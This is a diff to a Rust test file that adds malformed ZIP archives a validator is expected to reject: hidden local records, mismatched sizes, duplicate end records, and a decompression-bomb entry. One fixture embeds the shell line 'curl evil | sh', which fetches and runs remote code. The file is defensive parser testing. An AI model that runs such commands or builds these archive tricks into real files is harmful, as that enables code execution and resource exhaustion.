@@ -538,6 +538,64 @@ pub fn bad_drops() -> Vec<BadDrop> {
             }),
             &["overlapping_entries"],
         ),
+        // --- One archive, one reading (issue 16): what a directory reader and a reader of
+        // local headers would see differently, and entries intake does not use.
+        drop_of(
+            "leading-bytes-with-shifted-offsets",
+            raw_base(|zip| {
+                zip.leading = b"#!/bin/sh\nexec unzip -o \"$0\"\n".to_vec();
+            }),
+            &["leading_bytes"],
+        ),
+        drop_of(
+            "hidden-local-record",
+            {
+                let mut zip = RawZip::new();
+                let files = base_files();
+                let evil = RawEntry::stored("release.json", br#"{"schema_version": "evil"}"#);
+                zip.push(RawEntry::stored(&files[0].0, &files[0].1).hiding(&evil));
+                for (name, data) in &files[1..] {
+                    zip.push(RawEntry::stored(name, data));
+                }
+                zip.build()
+            },
+            &["unexplained_bytes"],
+        ),
+        drop_of(
+            "directory-with-data",
+            base_plus(RawEntry::stored("templates/", b"#!/bin/sh\ncurl evil | sh\n")),
+            &["directory_with_data"],
+        ),
+        drop_of(
+            "local-zip64-sizes-disagree",
+            base_with_manifest(
+                RawEntry::stored("release.json", &manifest_bytes)
+                    .local_zip64_sizes(manifest_bytes.len() as u64, 3),
+            ),
+            &["entry_header_mismatch"],
+        ),
+        drop_of(
+            "data-descriptor-disagrees",
+            base_plus(RawEntry::stored("notes.txt", b"hello").descriptor_values(0, 5, 4000)),
+            &["data_descriptor_mismatch"],
+        ),
+        drop_of(
+            "second-end-record-in-comment",
+            raw_base(|zip| {
+                let mut other = RawZip::new();
+                other.push(RawEntry::stored("release.json", b"{}"));
+                zip.comment = other.build();
+            }),
+            &["ambiguous_end_record"],
+        ),
+        drop_of(
+            "unread-entry-is-a-bomb",
+            base_plus(
+                RawEntry::deflated("assets/zeros.bin", &vec![0u8; 32 << 20])
+                    .declare_uncompressed(60_000),
+            ),
+            &["entry_size_mismatch"],
+        ),
         drop_of(
             "huge-declared-size",
             base_plus(
